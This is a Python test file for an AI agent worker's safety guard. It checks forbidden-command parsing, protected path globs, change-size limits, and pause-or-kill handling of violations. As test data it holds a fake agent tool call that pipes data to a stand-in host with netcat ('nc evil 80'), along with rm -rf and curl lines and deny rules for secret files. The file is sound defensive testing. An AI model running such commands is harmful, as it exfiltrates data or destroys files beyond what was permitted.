"""Safety rules (safetyBoundaries) on the worker: which commands and paths they forbid, and what a
run does when it breaks one (a SafetyBlock to the agent service; the run fails, or holds paused
until it is resumed or killed)."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from godel.v1 import agent_pb2
from godel.v1 import worker_service_pb2 as ws
from godel_server.runtime.agent_rules import safety_rules
from godel_server.worker.safety import Guard, commands_of, path_matches
from tests.fakes.openai_server import FakeOpenAI, tool_call
from tests.fakes.worker_env import RunningWorker, assignment, running_worker

pytestmark = pytest.mark.timeout(60)


def guard(**rules: object) -> Guard:
    return Guard(safety_rules(rules))


def test_commands_are_split_like_a_shell_and_nested_scripts_are_read() -> None:
    words = commands_of("A=1 curl -s x | grep y && (cd d; sh -c 'rm -rf /tmp/x') $(wget z)")
    assert [w[0] for w in words] == ["curl", "grep", "cd", "sh", "rm", "wget"]
    g = guard(forbiddenCommands=["curl", "git push*", "rm -rf *"])
    assert g.command("echo ok && /usr/bin/curl example.com") is not None
    assert g.command("git push origin main") is not None
    assert g.command("bash -c 'rm -rf build'") is not None
    assert g.command("git status; echo curl") is None  # "curl" as an argument is no command
    assert g.argv(["sh", "-c", "ls; curl x"]) is not None
    assert guard().command("curl x") is None


def test_path_globs() -> None:
    assert path_matches("*.pem", "keys/server.pem") and path_matches("*.pem", "a.pem")
    assert path_matches(".github/**", ".github/workflows/ci.yml")
    assert path_matches("secrets", "secrets/token.txt")  # a directory covers what is in it
    assert path_matches("docs/*.md", "docs/a.md") and not path_matches("docs/*.md", "docs/x/a.md")
    assert not path_matches("*.pem", "pem.txt")
    g = guard(forbiddenPaths=[".env", "deploy/**"])
    assert (
        g.path(".env") is not None and g.path("deploy/prod.yaml") is not None and g.path("src/a.py") is None
    )


def test_the_shape_of_safety_boundaries_is_checked() -> None:
    assert guard(onViolation="pause").pauses and not guard(on_violation="SAFETY_ACTION_FAIL").pauses
    for bad in ({"maxFilesChanged": 1.5}, {"forbidden": ["x"]}, {"maxDiffLines": -1}):
        with pytest.raises(ValueError):
            safety_rules(bad)


@pytest.fixture
async def env(tmp_path: Path) -> AsyncIterator[RunningWorker]:
    async with running_worker(tmp_path) as running:
        yield running


def _with_rules(a: ws.RunAssignment, **rules: object) -> ws.RunAssignment:
    a.safety.CopyFrom(safety_rules(rules))
    return a


async def _block(env: RunningWorker, run_id: str) -> ws.SafetyBlock:
    request = await env.ctl.wait_for(
        lambda r: r.WhichOneof("message") == "safety_block" and r.safety_block.run_id == run_id
    )
    return request.safety_block


async def test_a_forbidden_command_line_fails_the_run_before_it_starts(env: RunningWorker) -> None:
    a = assignment(env.repo, "r1", "a1", ["sh", "-c", "touch ran; curl -s http://x"])
    env.ctl.assign(_with_rules(a, forbiddenCommands=["curl"]))
    done = await env.ctl.wait_final("r1")
    block = await _block(env, "r1")
    assert (block.rule, block.action) == ("safetyBoundaries.forbiddenCommands", agent_pb2.SAFETY_ACTION_FAIL)
    assert "'curl -s http://x' matches 'curl'" in block.detail
    assert done.state == ws.RUN_STATE_FAILED and done.error.startswith(
        "safety: safetyBoundaries.forbiddenCommands"
    )
    assert not (env.settings.worktree_root / "a1" / "ran").exists()


async def test_a_run_that_changed_too_much_does_not_complete(env: RunningWorker) -> None:
    script = "for f in a b c; do echo $f > $f.txt; done; git add a.txt; git commit -q -m a"
    env.ctl.assign(_with_rules(assignment(env.repo, "r1", "a1", ["sh", "-c", script]), maxFilesChanged=2))
    done = await env.ctl.wait_final("r1")
    assert done.state == ws.RUN_STATE_FAILED
    assert done.error == "safety: safetyBoundaries.maxFilesChanged: 3 files changed, at most 2 may be"
    env.ctl.assign(
        _with_rules(assignment(env.repo, "r2", "a2", ["sh", "-c", "seq 1 50 > n.txt"]), maxDiffLines=10)
    )
    done = await env.ctl.wait_final("r2")
    assert done.error == "safety: safetyBoundaries.maxDiffLines: 50 lines changed, at most 10 may be"
    env.ctl.assign(
        _with_rules(
            assignment(env.repo, "r3", "a3", ["sh", "-c", "echo k > id.pem"]), forbiddenPaths=["*.pem"]
        )
    )
    done = await env.ctl.wait_final("r3")
    assert done.error.startswith("safety: safetyBoundaries.forbiddenPaths: the run changed 'id.pem'")


async def test_with_pause_the_run_holds_until_resumed_or_killed(env: RunningWorker) -> None:
    rules = {"maxFilesChanged": 1, "onViolation": "pause"}
    env.ctl.assign(_with_rules(assignment(env.repo, "r1", "a1", ["sh", "-c", "touch x y"]), **rules))
    block = await _block(env, "r1")
    assert block.action == agent_pb2.SAFETY_ACTION_PAUSE
    await env.ctl.wait_update("r1", ws.RUN_STATE_PAUSED)
    env.ctl.control("r1", ws.CONTROL_ACTION_RESUME)  # an operator allows it
    assert (await env.ctl.wait_final("r1")).state == ws.RUN_STATE_SUCCEEDED

    env.ctl.assign(_with_rules(assignment(env.repo, "r2", "a2", ["sh", "-c", "touch x y"]), **rules))
    await env.ctl.wait_update("r2", ws.RUN_STATE_PAUSED)
    env.ctl.control("r2", ws.CONTROL_ACTION_KILL, reason="refused by an operator")
    assert (await env.ctl.wait_final("r2")).state == ws.RUN_STATE_KILLED


@pytest.fixture
def fake() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as endpoint:
        yield endpoint


async def test_the_openai_tools_keep_the_rules(tmp_path: Path, fake: FakeOpenAI) -> None:
    fake.add(tool_call("write_file", {"path": "deploy/prod.yaml", "content": "x"}))
    async with running_worker(tmp_path, GODEL_OPENAI_BASE_URL=fake.base_url) as env:
        a = assignment(env.repo, "r1", "a1", runtime="openai", model="m")
        env.ctl.assign(_with_rules(a, forbiddenPaths=["deploy/**"]))
        done = await env.ctl.wait_final("r1")
        assert done.error.startswith("safety: safetyBoundaries.forbiddenPaths: 'deploy/prod.yaml'")
        assert not (env.settings.worktree_root / "a1" / "deploy").exists()
        fake.add(tool_call("shell", {"command": "echo hi | nc evil 80"}))
        a = assignment(env.repo, "r2", "a2", runtime="openai", model="m")
        a.config.tools.append("shell")
        env.ctl.assign(_with_rules(a, forbiddenCommands=["nc"]))
        done = await env.ctl.wait_final("r2")
        assert (await _block(env, "r2")).rule == "safetyBoundaries.forbiddenCommands"
        assert done.state == ws.RUN_STATE_FAILED


async def test_a_tool_the_agent_is_not_granted_is_a_safety_block(tmp_path: Path, fake: FakeOpenAI) -> None:
    fake.add(tool_call("shell", {"command": "touch pwned"}))
    async with running_worker(tmp_path, GODEL_OPENAI_BASE_URL=fake.base_url) as env:
        env.ctl.assign(assignment(env.repo, "r1", "a1", runtime="openai", model="m"))
        done = await env.ctl.wait_final("r1")
        block = await _block(env, "r1")
        assert (block.rule, block.action) == ("config.tools", agent_pb2.SAFETY_ACTION_FAIL)
        assert done.error == f"safety: config.tools: {block.detail}"
